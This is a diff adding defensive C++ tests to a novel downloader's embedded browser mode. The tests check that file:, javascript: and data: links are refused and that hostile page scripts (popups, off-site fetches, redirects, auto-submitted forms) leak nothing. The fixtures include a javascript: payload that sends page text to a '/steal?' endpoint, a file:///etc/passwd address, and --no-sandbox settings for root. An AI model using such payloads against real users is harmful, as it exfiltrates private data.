@@ -1,8 +1,14 @@
 // Browser mode: chapter pages whose text is written by script, fetched one
-// by one through the embedded browser on the offscreen platform.
+// by one through the embedded browser on the offscreen platform, and what
+// that browser refuses to load, show or send.
 #include "ui/NovelJob.h"
 #include "ui/PageBrowser.h"
+#include "ui/WebView.h"
 #include "ui/WindowTestFixture.h"
+
+#include <QApplication>
+#include <QDialog>
+#include <QMessageBox>
 
 using namespace velmora;
 using namespace velmora::test;
@@ -216,3 +222,262 @@ TEST_F(BrowserDownloadTest, StopEndsThePageWaitAtOnce)
     EXPECT_TRUE(checked(0));
     EXPECT_EQ(site.requestsFor(2), 0);
 }
+
+TEST(WebAddressTest, TakesOnlyWellFormedHttpAndHttpsAddresses)
+{
+    struct Case {
+        const char* text;
+        const char* address;  // as loaded; empty: refused
+    };
+    for (const Case& c : std::initializer_list<Case>{
+             {"http://book.example/1/2.html", "http://book.example/1/2.html"},
+             {"HTTPS://Book.Example:8443/a.html?x=1", "https://book.example:8443/a.html?x=1"},
+             {"http://book.example/卷一/1.html", "http://book.example/%E5%8D%B7%E4%B8%80/1.html"},
+             {"file:///etc/passwd", ""},
+             {"javascript:alert(1)", ""},
+             {"data:text/html,<b>x</b>", ""},
+             {"ftp://book.example/1.html", ""},
+             {"book.example/1.html", ""},      // no guessing of a scheme
+             {" http://book.example/", ""},    // nor mending of what was given
+             {"http://book.example/a b.html", ""},
+             {"http:///1.html", ""},
+             {"http:1.html", ""},
+         }) {
+        EXPECT_EQ(webAddress(QString::fromUtf8(c.text)).toEncoded().toStdString(), c.address) << c.text;
+    }
+}
+
+// Records and closes every dialog that opens while it lives: nothing a page
+// does may put one on the screen.
+class DialogWatch {
+public:
+    DialogWatch()
+    {
+        QObject::connect(&timer_, &QTimer::timeout, [this] {
+            for (QWidget* widget : QApplication::topLevelWidgets()) {
+                auto* dialog = qobject_cast<QDialog*>(widget);
+                if (dialog != nullptr && dialog->isVisible()) {
+                    auto* box = qobject_cast<QMessageBox*>(dialog);
+                    seen_ << (box != nullptr ? box->text() : dialog->windowTitle());
+                    dialog->reject();
+                }
+            }
+        });
+        timer_.start(20);
+    }
+
+    const QStringList& seen() const { return seen_; }
+
+private:
+    QTimer timer_;
+    QStringList seen_;
+};
+
+TEST_F(BrowserDownloadTest, ListOfFileAndScriptLinksLoadsOnlyTheWebAddress)
+{
+    // A page that would count as a chapter if it were ever loaded.
+    const fs::path secret = folder_ / "secret.html";
+    ASSERT_TRUE(replaceFileContent(secret, encoding::utf8ToGbk("<html><body>正在玩命为您加载中，请稍后！"
+                                                               "这是本机上的私人文件，不能让网页读到的内容。上一章"
+                                                               "</body></html>")));
+    LoopbackServer exfiltration;
+    const int port = freeLoopbackPort();
+    NovelSiteOptions options;
+    options.scriptLinks = {
+        // Slashes past those of the list address leave the prefix empty, so
+        // every link is taken as it stands.
+        "http://127.0.0.1:" + std::to_string(port) + "/js/1/" + encoding::utf8ToGbk("卷一") + "/part/2/section/3/1.html",
+        "file://" + secret.string(),
+        "javascript:location.href = '" + exfiltration.url("/steal?")
+            + "' + encodeURIComponent(document.documentElement.innerText)",
+    };
+    NovelSite site(options, port);
+    control<QListWidget>("列表框1")->setCurrentRow(7);
+    fetchList(site.scriptListUrl());
+    ASSERT_EQ(list()->topLevelItemCount(), 3);
+    ASSERT_EQ(list()->topLevelItem(2)->text(2).toStdString(), encoding::gbkToUtf8(options.scriptLinks[2]));
+    window().job().setPageLoadTimeLimit(3000);
+    button("按钮_下载章节内容")->click();
+
+    EXPECT_EQ(cell(0, 3), "下载完毕");
+    EXPECT_EQ(fileBytes(ChapterFilePath(site.novelName(), 1)), site.expectedScriptChapterFile(1));
+    for (int row : {1, 2}) {
+        EXPECT_EQ(cell(row, 3), "失败3次") << row;
+        EXPECT_FALSE(fs::exists(ChapterFilePath(site.novelName(), row + 1))) << row;
+    }
+    EXPECT_TRUE(exfiltration.requests().empty());
+}
+
+// A chapter page that tries what pages do to the people who read them.
+struct HostilePageCase {
+    const char* label;
+    std::string markup;  // "{elsewhere}" stands for a site on another port
+};
+
+void PrintTo(const HostilePageCase& c, std::ostream* os) { *os << c.label; }
+
+class HostilePageTest : public BrowserDownloadTest, public testing::WithParamInterface<HostilePageCase> {};
+
+TEST_P(HostilePageTest, ChaptersStillArriveAndNothingLeavesTheSite)
+{
+    LoopbackServer elsewhere;
+    std::string markup = GetParam().markup;
+    for (std::size_t at; (at = markup.find("{elsewhere}")) != std::string::npos;) {
+        markup.replace(at, 11, elsewhere.url(""));
+    }
+    NovelSiteOptions options;
+    options.chapters = 2;
+    // A resource of the page's own site, asked for after the hostile part.
+    options.scriptPageExtra = markup + "<img src=\"/js/1/cover.png\">";
+    NovelSite site(options);
+    listScriptNovel(site);
+    DialogWatch dialogs;
+    button("按钮_下载章节内容")->click();
+
+    for (int n : {1, 2}) {
+        EXPECT_EQ(fileBytes(ChapterFilePath(site.novelName(), n)), site.expectedScriptChapterFile(n)) << n;
+    }
+    EXPECT_TRUE(dialogs.seen().empty()) << dialogs.seen().join(QStringLiteral(" | ")).toStdString();
+    EXPECT_TRUE(waitUntil([&] {
+        const auto requests = site.server().requests();
+        return std::any_of(requests.begin(), requests.end(), [](const RecordedRequest& r) {
+            return r.requestLine.find("/cover.png") != std::string::npos;
+        });
+    }));
+    EXPECT_TRUE(elsewhere.requests().empty()) << elsewhere.requests().front().requestLine;
+}
+
+INSTANTIATE_TEST_SUITE_P(BrowserDownload, HostilePageTest, testing::Values(
+    HostilePageCase{"alert", "<script>alert(\"本站已更新\")</script>"},
+    HostilePageCase{"confirm", "<script>confirm(\"继续阅读？\")</script>"},
+    HostilePageCase{"prompt", "<script>prompt(\"请输入验证码\", \"\")</script>"},
+    HostilePageCase{"beforeunload", "<script>addEventListener(\"beforeunload\", function (e) { e.preventDefault(); "
+                                    "e.returnValue = \"确定离开？\"; return e.returnValue; });</script>"},
+    HostilePageCase{"image elsewhere", "<img src=\"{elsewhere}/ad.gif\">"},
+    HostilePageCase{"script elsewhere", "<script src=\"{elsewhere}/track.js\"></script>"},
+    HostilePageCase{"frame elsewhere", "<iframe src=\"{elsewhere}/frame.html\"></iframe>"},
+    HostilePageCase{"fetch elsewhere", "<script>fetch(\"{elsewhere}/collect?t=\" + document.title)</script>"},
+    // Leaving once the page has shown its text; leaving sooner would stop its
+    // loading in any browser.
+    HostilePageCase{"page leaves", "<script>addEventListener(\"load\", function () { "
+                                   "location.href = \"{elsewhere}/next.html\"; });</script>"},
+    HostilePageCase{"form leaves", "<form id=\"f\" method=\"post\" action=\"{elsewhere}/form\"><input name=\"q\">"
+                                   "</form><script>addEventListener(\"load\", function () { "
+                                   "document.getElementById(\"f\").submit(); });</script>"}
+));
+
+// Runs as root with the engine's sandbox on, as far as browser mode can
+// tell, while it lives: the sandbox settings of the test run are put aside.
+class AsRootWithSandboxOn {
+public:
+    AsRootWithSandboxOn()
+    {
+        for (const char* name : kSettings) {
+            if (qEnvironmentVariableIsSet(name)) {
+                saved_.emplace_back(name, qgetenv(name));
+            }
+            qunsetenv(name);
+        }
+        setRunningAsRootCheck([] { return true; });
+    }
+
+    ~AsRootWithSandboxOn()
+    {
+        setRunningAsRootCheck(nullptr);
+        for (const char* name : kSettings) {
+            qunsetenv(name);
+        }
+        for (const auto& [name, value] : saved_) {
+            qputenv(name, value);
+        }
+    }
+
+private:
+    static constexpr const char* kSettings[] = {"QTWEBENGINE_DISABLE_SANDBOX", "QTWEBENGINE_CHROMIUM_FLAGS"};
+    std::vector<std::pair<const char*, QByteArray>> saved_;
+};
+
+TEST_F(BrowserDownloadTest, NoSandboxOptionLetsRootUseBrowserMode)
+{
+    NovelSiteOptions options;
+    options.chapters = 1;
+    NovelSite site(options);
+    listScriptNovel(site);
+    AsRootWithSandboxOn root;
+    char program[] = "velmora";
+    char option[] = "--no-sandbox";
+    char* arguments[] = {program, option, nullptr};
+    applySandboxOption(2, arguments);
+    forgetShown();
+    button("按钮_下载章节内容")->click();
+
+    EXPECT_EQ(cell(0, 3), "下载完毕");
+    EXPECT_EQ(fileBytes(ChapterFilePath(site.novelName(), 1)), site.expectedScriptChapterFile(1));
+}
+
+// Why browser mode cannot start, and how it is told.
+struct RefusalCase {
+    const char* label;
+    // Makes browser mode unusable until what it returns is dropped.
+    std::function<std::shared_ptr<void>(const fs::path& folder)> arrange;
+    std::function<bool(const QString& text)> isTheReason;
+};
+
+void PrintTo(const RefusalCase& c, std::ostream* os) { *os << c.label; }
+
+class RefusalTest : public BrowserDownloadTest, public testing::WithParamInterface<RefusalCase> {
+protected:
+    void TearDown() override
+    {
+        unusable_.reset();
+        BrowserDownloadTest::TearDown();
+    }
+
+    std::shared_ptr<void> unusable_;
+};
+
+TEST_P(RefusalTest, ToldOncePerRunWithNoRowDone)
+{
+    NovelSiteOptions options;
+    options.chapters = 3;
+    NovelSite site(options);
+    listScriptNovel(site);
+    unusable_ = GetParam().arrange(folder_);
+    forgetShown();
+    for (int run = 1; run <= 2; ++run) {
+        button("按钮_下载章节内容")->click();
+        const auto boxes = shown();
+        const auto told = std::count_if(boxes.begin(), boxes.end(), [](const Shown& box) {
+            return box.caption == "提示" && box.style == StyleError && box.timeoutMs == 0
+                && GetParam().isTheReason(box.text);
+        });
+        EXPECT_EQ(told, run);
+    }
+    for (int row = 0; row < 3; ++row) {
+        EXPECT_EQ(cell(row, 3), "失败3次") << row;
+        EXPECT_TRUE(checked(row)) << row;
+        EXPECT_FALSE(fs::exists(ChapterFilePath(site.novelName(), row + 1))) << row;
+        EXPECT_EQ(site.requestsFor(row + 1), 0) << row;
+    }
+    EXPECT_FALSE(window().browser().started());
+}
+
+INSTANTIATE_TEST_SUITE_P(BrowserDownload, RefusalTest, testing::Values(
+    RefusalCase{"root with the sandbox on",
+                [](const fs::path&) { return std::make_shared<AsRootWithSandboxOn>(); },
+                [](const QString& text) {
+                    return text == QStringLiteral("以root身份运行时浏览器模式需要关闭沙箱：请设置环境变量 "
+                                                  "QTWEBENGINE_DISABLE_SANDBOX=1（或加上启动参数 --no-sandbox）后重新启动");
+                }},
+    RefusalCase{"web view module missing",
+                [](const fs::path& folder) {
+                    setWebViewModule(QString::fromStdString((folder / "lib" / "velmora_webview.so").string()));
+                    return std::shared_ptr<void>(nullptr, [](void*) {
+                        setWebViewModule(QStringLiteral(VELMORA_WEBVIEW_MODULE_FILE));
+                    });
+                },
+                [](const QString& text) {
+                    return text.startsWith(QStringLiteral("浏览器模式无法使用：网页组件加载失败。\r\n"))
+                        && text.contains(QStringLiteral("/lib/velmora_webview.so"));
+                }}
+));
